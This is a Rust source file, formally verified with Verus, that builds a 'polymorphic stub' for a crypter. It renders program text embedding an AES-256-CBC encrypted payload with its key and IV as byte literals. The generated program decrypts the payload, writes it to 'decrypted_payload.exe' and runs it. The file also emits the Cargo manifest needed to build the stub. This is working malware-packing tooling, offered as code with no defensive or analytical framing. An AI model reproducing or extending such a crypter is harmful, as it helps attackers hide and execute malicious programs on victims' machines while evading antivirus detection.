//! The stub: a small program that carries the encrypted payload with its
//! key material as literal data, and the manifest that builds it.
//!
//! The program decrypts what it carries, writes the result to a file and
//! starts that file. It does not expand the result: what it starts is
//! what was encrypted, so a stub that carries a compressed payload will
//! not run the program that was packed.

use crate::keys::KeyMaterial;
use vstd::prelude::*;
use vstd::string::StringExecFns;

verus! {

/// The program text up to the bytes of the payload.
pub const STUB_HEAD: &'static str = "
use aes::Aes256;
use aes::cipher::NewBlockCipher;
use block_modes::{Cbc, BlockMode};
use block_modes::block_padding::Pkcs7;

fn decrypt_data(ciphertext: &[u8], key: &[u8; 32], iv: &[u8; 16]) -> Vec<u8> {
    let cipher = Aes256::new(key.into());
    let mode = Cbc::<Aes256, Pkcs7>::new(cipher, iv.into());
    mode.decrypt_vec(ciphertext).unwrap()
}

fn execute_payload(payload: &[u8]) {
    use std::fs::File;
    use std::io::Write;
    use std::process::Command;

    let temp_exe = \"decrypted_payload.exe\";
    let mut file = File::create(temp_exe).unwrap();
    file.write_all(payload).unwrap();
    
    Command::new(temp_exe).spawn().expect(\"Failed to execute payload\");
}

fn main() {
    let encrypted_payload = vec![";

/// The program text between the bytes of the payload and those of the key.
pub const STUB_KEY_OPEN: &'static str = "];
    let key = [";

/// The program text between the bytes of the key and those of the vector.
pub const STUB_IV_OPEN: &'static str = "];
    let iv = [";

/// The program text after the bytes of the vector.
pub const STUB_TAIL: &'static str = "];

    let decrypted_payload = decrypt_data(&encrypted_payload, &key, &iv);
    execute_payload(&decrypted_payload);
}
        ";

/// The manifest with which the stub is built.
pub const STUB_MANIFEST: &'static str = "[package]
name = \"polymorphic_stub\"
version = \"0.1.0\"
edition = \"2021\"

[dependencies]
aes = \"0.7.5\"
block-modes = \"0.8.1\"
cipher = \"0.3.0\"
";

/// What is written into the working directory of a build: the text of
/// the program and the manifest that builds it.
pub struct StubSource {
    pub program: String,
    pub manifest: String,
}

/// The digit for `n` in base sixteen, in lower case.
pub open spec fn hex_digit(n: int) -> char {
    if n == 0 {
        '0'
    } else if n == 1 {
        '1'
    } else if n == 2 {
        '2'
    } else if n == 3 {
        '3'
    } else if n == 4 {
        '4'
    } else if n == 5 {
        '5'
    } else if n == 6 {
        '6'
    } else if n == 7 {
        '7'
    } else if n == 8 {
        '8'
    } else if n == 9 {
        '9'
    } else if n == 10 {
        'a'
    } else if n == 11 {
        'b'
    } else if n == 12 {
        'c'
    } else if n == 13 {
        'd'
    } else if n == 14 {
        'e'
    } else {
        'f'
    }
}

/// A byte as it stands in the program text: `0x` and two digits.
pub open spec fn byte_text(b: u8) -> Seq<char> {
    seq!['0', 'x', hex_digit(b as int / 16), hex_digit(b as int % 16)]
}

/// Bytes as they stand in the program text: one after the other, with a
/// comma and a space between two of them.
pub open spec fn byte_list(bytes: Seq<u8>) -> Seq<char>
    decreases bytes.len(),
{
    if bytes.len() == 0 {
        Seq::empty()
    } else if bytes.len() == 1 {
        byte_text(bytes[0])
    } else {
        byte_list(bytes.drop_last()) + seq![',', ' '] + byte_text(bytes.last())
    }
}

/// The text of the stub for the given payload and key material.
pub open spec fn stub_source(payload: Seq<u8>, key: Seq<u8>, iv: Seq<u8>) -> Seq<char> {
    STUB_HEAD@ + byte_list(payload) + STUB_KEY_OPEN@ + byte_list(key) + STUB_IV_OPEN@ + byte_list(
        iv,
    ) + STUB_TAIL@
}

/// The digit for `n`, as text.
fn digit_str(n: u8) -> (digit: &'static str)
    requires
        n < 16,
    ensures
        digit@ == seq![hex_digit(n as int)],
{
    proof {
        reveal_strlit("0");
        reveal_strlit("1");
        reveal_strlit("2");
        reveal_strlit("3");
        reveal_strlit("4");
        reveal_strlit("5");
        reveal_strlit("6");
        reveal_strlit("7");
        reveal_strlit("8");
        reveal_strlit("9");
        reveal_strlit("a");
        reveal_strlit("b");
        reveal_strlit("c");
        reveal_strlit("d");
        reveal_strlit("e");
        reveal_strlit("f");
    }
    let digit = match n {
        0 => "0",
        1 => "1",
        2 => "2",
        3 => "3",
        4 => "4",
        5 => "5",
        6 => "6",
        7 => "7",
        8 => "8",
        9 => "9",
        10 => "a",
        11 => "b",
        12 => "c",
        13 => "d",
        14 => "e",
        _ => "f",
    };
    digit
}

/// Writes one byte to the end of `out`.
pub fn push_byte(out: &mut String, b: u8)
    ensures
        final(out)@ == old(out)@ + byte_text(b),
{
    proof {
        reveal_strlit("0x");
    }
    out.append("0x");
    out.append(digit_str(b / 16));
    out.append(digit_str(b % 16));
}

/// Writes `bytes` to the end of `out`, separated by commas.
pub fn push_byte_list(out: &mut String, bytes: &[u8])
    ensures
        final(out)@ == old(out)@ + byte_list(bytes@),
{
    let mut i: usize = 0;
    while i < bytes.len()
        invariant
            i <= bytes.len(),
            out@ == old(out)@ + byte_list(bytes@.take(i as int)),
        decreases bytes.len() - i,
    {
        proof {
            reveal_strlit(", ");
            assert(bytes@.take(i as int + 1).drop_last() =~= bytes@.take(i as int));
        }
        if i > 0 {
            out.append(", ");
        }
        push_byte(out, bytes[i]);
        i += 1;
    }
    assert(bytes@.take(i as int) =~= bytes@);
}

/// Renders the stub for an encrypted payload and the key material that
/// decrypts it. The bytes stand in the text as literal data, so that the
/// program needs nothing from outside.
pub fn generate_polymorphic_stub(encrypted_payload: &[u8], key: &[u8; 32], iv: &[u8; 16]) -> (text:
    String)
    ensures
        text@ == stub_source(encrypted_payload@, key@, iv@),
{
    let mut text = String::from_str(STUB_HEAD);
    push_byte_list(&mut text, encrypted_payload);
    text.append(STUB_KEY_OPEN);
    push_byte_list(&mut text, key.as_slice());
    text.append(STUB_IV_OPEN);
    push_byte_list(&mut text, iv.as_slice());
    text.append(STUB_TAIL);
    text
}

/// The manifest that declares what the stub needs to be built: the cipher
/// and the mode of operation with which the payload was encrypted.
pub fn stub_manifest() -> (text: String)
    ensures
        text@ == STUB_MANIFEST@,
{
    String::from_str(STUB_MANIFEST)
}

/// Makes the stub for an encrypted payload: the program that carries it
/// with `keys`, and the manifest.
pub fn synthesize(encrypted_payload: &[u8], keys: &KeyMaterial) -> (stub: StubSource)
    ensures
        stub.program@ == stub_source(encrypted_payload@, keys.key@, keys.iv@),
        stub.manifest@ == STUB_MANIFEST@,
{
    StubSource {
        program: generate_polymorphic_stub(encrypted_payload, &keys.key, &keys.iv),
        manifest: stub_manifest(),
    }
}

/// The length of the text of `n` bytes: four characters for each, and two
/// more between any two of them.
pub open spec fn byte_list_len(n: nat) -> nat {
    if n == 0 {
        0
    } else {
        (6 * n - 2) as nat
    }
}

/// The text of a byte list is as long as the number of its bytes says.
pub proof fn lemma_byte_list_len(bytes: Seq<u8>)
    ensures
        byte_list(bytes).len() == byte_list_len(bytes.len()),
    decreases bytes.len(),
{
    if bytes.len() > 1 {
        lemma_byte_list_len(bytes.drop_last());
    }
}

} // verus!
